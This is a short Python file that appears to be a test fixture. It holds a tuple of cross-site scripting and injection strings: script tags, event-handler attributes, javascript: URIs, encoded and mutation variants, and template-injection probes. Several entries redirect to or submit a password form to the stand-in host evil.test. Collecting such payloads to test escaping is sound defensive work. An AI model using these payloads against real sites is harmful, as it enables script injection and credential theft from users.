"""Texts that become markup, script or an address wherever they are not written as text."""

POLYGLOTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html,<script>alert(1)</script>>", "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<base href=//evil.test/>",
    "<form action=//evil.test><input name=password>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    '" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='", '"><script>alert(1)</script>', "'><script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "` onmouseover=alert(1) `", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)", "{{7*7}}{% raw %}${7*7}<%= 7*7 %>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)  # fmt: skip
